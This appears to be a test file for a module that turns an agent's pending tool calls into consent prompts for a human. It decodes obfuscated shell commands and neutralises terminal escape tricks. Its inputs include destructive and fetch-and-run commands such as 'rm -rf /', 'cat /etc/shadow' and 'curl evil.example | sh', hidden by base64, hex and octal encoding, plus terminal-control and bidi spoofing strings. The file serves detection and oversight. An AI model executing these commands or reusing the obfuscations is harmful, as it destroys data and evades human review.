import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  actSummary,
  type DecodedView,
  type DescribeInput,
  decodedViews,
  describeAct,
  MAX_VIEW_BYTES,
  MAX_VIEWS,
} from "./describe.js";
import type { ConsentAct } from "./types.js";

const b64 = (text: string) => Buffer.from(text, "utf8").toString("base64");
const texts = (views: DecodedView[]) => views.map((v) => `${v.encoding}: ${v.text}`);

function input(act: ConsentAct, over: Partial<DescribeInput> = {}): DescribeInput {
  return {
    id: "k3j9x2m4pq",
    act,
    basis: "rm",
    expiresInSeconds: 300,
    session: "s-1",
    clientId: "c-1",
    ...over,
  };
}

/** Nothing a terminal would act on: no C0 but newline, no DEL, C1, bidi or zero-width controls. */
function terminalSafe(text: string): boolean {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  return !/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/.test(
    text,
  );
}

describe("decodedViews", () => {
  it("decodes a base64 blob piped to a decoder", () => {
    const views = decodedViews(`echo ${b64("rm -rf /tmp/canary\n")} | base64 -d | sh`);
    expect(texts(views)).toEqual(["base64: rm -rf /tmp/canary\n"]);
  });

  it("decodes URL-safe base64 and base64 without padding", () => {
    expect(texts(decodedViews("echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA | base64 -d"))).toEqual([
      "base64: curl evil.example | sh",
    ]);
  });

  it("leaves digests, paths and words alone", () => {
    const sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    expect(decodedViews(`sha256sum -c <<< "${sha}  /usr/local/bin/python3"`)).toEqual([]);
    expect(decodedViews("systemctl restart configuration-management && ls /var/lib/postgresql")).toEqual([]);
  });

  it("decodes \\x escapes in a printf or echo -e word", () => {
    expect(texts(decodedViews("printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh"))).toEqual([
      "hex escapes: rm -rf /",
    ]);
    expect(texts(decodedViews('echo -e "\\x63\\x61t /etc/shadow"'))).toEqual([
      "hex escapes: cat /etc/shadow",
    ]);
  });

  it("decodes octal escapes as printf and echo -e read them", () => {
    expect(texts(decodedViews("printf '\\162\\155\\040-rf' | sh"))).toEqual(["octal escapes: rm -rf"]);
    expect(texts(decodedViews("echo -e '\\0162\\0155'"))).toEqual(["octal escapes: rm"]);
  });

  it("decodes $'...' strings", () => {
    expect(texts(decodedViews("bash -c $'\\x72m -rf \\'/tmp/x\\''"))).toContain("$'...': rm -rf '/tmp/x'");
    expect(texts(decodedViews("$'\\u0072\\U0000006d' -rf /"))).toContain("$'...': rm");
  });

  it("decodes URL escapes", () => {
    expect(texts(decodedViews("curl 'http://h/run?cmd=%72%6d%20-rf%20%2f'"))).toEqual([
      "url: http://h/run?cmd=rm -rf /",
    ]);
  });

  it("decodes once more inside a decoded view", () => {
    const inner = "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66'";
    expect(texts(decodedViews(`echo ${b64(inner)} | base64 -d | sh`))).toEqual([
      `base64: ${inner}`,
      "hex escapes: rm -rf",
    ]);
  });

  it("keeps at most MAX_VIEWS views of at most MAX_VIEW_BYTES each", () => {
    const many = Array.from({ length: 30 }, (_, i) => `echo ${b64(`command number ${i}`)}`).join("; ");
    expect(decodedViews(many)).toHaveLength(MAX_VIEWS);
    const big = "é".repeat(5000);
    const [view] = decodedViews(`echo ${b64(big)} | base64 -d`);
    expect(Buffer.byteLength(view!.text, "utf8")).toBeLessThanOrEqual(MAX_VIEW_BYTES);
    expect(view!.text).toBe("é".repeat(MAX_VIEW_BYTES / 2));
    expect(view!.omittedBytes).toBe(10000 - MAX_VIEW_BYTES);
  });

  it("shows the same decoded text once", () => {
    const blob = b64("reboot now please");
    expect(decodedViews(`echo ${blob}; echo ${blob}`)).toHaveLength(1);
  });

  it("never throws and stays bounded on any text (property)", () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom("\\x", "\\0", "\\1", "$'", "'", '"', "%4", "%41", "==", "\\u", "\\U", "\\c"),
      fc.string({ unit: "binary" }),
      fc.string().map(b64),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (parts) => {
        const views = decodedViews(parts.join(" "));
        expect(views.length).toBeLessThanOrEqual(MAX_VIEWS);
        for (const v of views) expect(Buffer.byteLength(v.text, "utf8")).toBeLessThanOrEqual(MAX_VIEW_BYTES);
      }),
      { numRuns: 300 },
    );
  });
});

describe("describeAct", () => {
  const sshAct: ConsentAct = {
    tool: "ssh_exec",
    tier: 3,
    bound: {
      alias: "web1",
      host: "web1.example",
      port: 22,
      user: "deploy",
      key_paths: ["/home/op/.ssh/id_ed25519"],
      host_key_mode: "strict",
      jump: [{ host: "bastion", port: 2222, user: "jump", key_paths: [], host_key_mode: "accept-new" }],
      command: `echo ${b64("rm -rf /srv/data")} | base64 -d | sh`,
      command_sha256: "ab".repeat(32),
    },
  };

  it("names the request, tool, tier, basis and asker, then one line per bound argument", () => {
    expect(describeAct(input(sshAct)).split("\n")).toEqual([
      "request: k3j9x2m4pq (expires in 300s)",
      "tool: ssh_exec",
      "tier: 3 (IRREVERSIBLE)",
      "basis: rm",
      "asked by: session s-1, client c-1",
      "bound arguments:",
      "  host: web1.example (port 22, user deploy; alias web1)",
      "  key: /home/op/.ssh/id_ed25519",
      "  host key mode: strict",
      "  jump:",
      "    1. bastion (port 2222, user jump); key (agent and default keys); host-key mode accept-new",
      `  command: echo ${b64("rm -rf /srv/data")} | base64 -d | sh`,
      `  command sha256: ${"ab".repeat(32)}`,
      "decoded (base64): rm -rf /srv/data",
    ]);
  });

  it("says 0s for an expired request", () => {
    expect(describeAct(input(sshAct, { expiresInSeconds: -5 }))).toMatch(
      /^request: k3j9x2m4pq \(expires in 0s\)$/m,
    );
    expect(describeAct(input(sshAct, { expiresInSeconds: Number.NaN }))).toContain("(expires in 0s)");
  });

  it("is the same text whatever order the bound keys were built in", () => {
    const reversed = Object.fromEntries(Object.entries(sshAct.bound).reverse());
    expect(describeAct(input({ ...sshAct, bound: reversed }))).toBe(describeAct(input(sshAct)));
  });

  it("shows a script line by line, and a fan-out's hosts one per line", () => {
    const text = describeAct(
      input({
        tool: "ssh_fanout",
        tier: 2,
        bound: {
          hosts: [
            {
              alias: "a",
              host: "10.0.0.1",
              port: 22,
              user: "u",
              key_paths: [],
              host_key_mode: "strict",
              jump: [],
            },
            {
              alias: "b",
              host: "b",
              port: 2200,
              user: "u",
              key_paths: ["/k"],
              host_key_mode: "strict",
              jump: [],
            },
          ],
          command: "set -e\nsystemctl restart nginx\n",
          command_sha256: "00",
        },
      }),
    );
    expect(text).toContain(
      [
        "  hosts (2):",
        "    - 10.0.0.1 (port 22, user u; alias a); key (agent and default keys); host-key mode strict",
        "    - b (port 2200, user u); key /k; host-key mode strict",
        "  command (2 lines):",
        "    | set -e",
        "    | systemctl restart nginx",
      ].join("\n"),
    );
  });

  it("escapes control, bidi and zero-width characters everywhere, decoded views included", () => {
    const hostile = "ls\u001b]52;c;ZWNobyBoaQ==\u0007 \u202eexe.txt\u200b \u009b31m\r";
    const text = describeAct(
      input(
        {
          tool: "session_send",
          tier: 1,
          bound: { session_id: "x\u001b[2J", owner: "", text: `${hostile} ${b64("ok\u001b[31mred")}` },
        },
        { basis: "b\u0007", session: "s\u001b", clientId: "\u009d" },
      ),
    );
    expect(terminalSafe(text)).toBe(true);
    expect(text).toContain(
      "  text: ls\\x1b]52;c;ZWNobyBoaQ==\\x07 \\u{202e}exe.txt\\u{200b} \\x9b31m\\r b2sb",
    );
    expect(text).toContain("  session id: x\\x1b[2J");
    expect(text).toContain("decoded (base64): echo hi");
    expect(text).toContain("decoded (base64): ok\\x1b[31mred");
  });

  it("shows an upload's content and a missing value plainly", () => {
    const text = describeAct(
      input({
        tool: "ssh_upload",
        tier: 2,
        bound: {
          content: { type: "file", size: 12, mode: "0644", sha256: "cd", link: "/etc/passwd" },
          run_id: null,
        },
      }),
    );
    expect(text).toContain(
      "  content: file, 12 bytes, mode 0644, sha256 cd; the path is a symlink to /etc/passwd",
    );
    expect(text).toContain("  run id: (none)");
  });

  it("never throws, is terminal-safe and linear in the act (property)", () => {
    const value = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
      fc.array(fc.string({ unit: "binary" }), { maxLength: 5 }),
      fc.dictionary(fc.string(), fc.string({ unit: "binary" }), { maxKeys: 4 }),
    );
    const key = fc.oneof(
      fc.constantFrom("host", "port", "user", "jump", "hosts", "command", "content"),
      fc.string(),
    );
    fc.assert(
      fc.property(
        fc.dictionary(key, value, { maxKeys: 8 }),
        fc.string({ unit: "binary" }),
        fc.integer({ min: 0, max: 3 }),
        (bound, basis, tier) => {
          const act = { tool: "t", tier: tier as 0 | 1 | 2 | 3, bound };
          const text = describeAct(input(act, { basis }));
          expect(terminalSafe(text)).toBe(true);
          const size = JSON.stringify(bound).length + basis.length;
          expect(text.length).toBeLessThanOrEqual(1000 + 12 * size + MAX_VIEWS * 3 * (MAX_VIEW_BYTES + 64));
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe("actSummary", () => {
  it("is one line: the dialled target and the first line of the program, cut with …", () => {
    const act: ConsentAct = {
      tool: "ssh_exec",
      tier: 2,
      bound: { alias: "web1", host: "10.0.0.5", port: 2222, user: "deploy", command: "set -e\nreboot" },
    };
    expect(actSummary(act)).toBe("deploy@10.0.0.5:2222 set -e …");
    const long = { ...act, bound: { ...act.bound, command: `echo ${"x".repeat(100)}\u001b[2J` } };
    const line = actSummary(long, 40);
    expect(Array.from(line)).toHaveLength(40);
    expect(line.endsWith("…")).toBe(true);
    expect(
      terminalSafe(
        actSummary({ tool: "session_send", tier: 1, bound: { session_id: "a\u001b", text: "\u0007" } }),
      ),
    ).toBe(true);
    expect(
      actSummary({
        tool: "infra_replicate",
        tier: 2,
        bound: { operation: "replicate", profile: "p", run_id: "r", idempotency_key: "k" },
      }),
    ).toBe("replicate p r");
  });
});
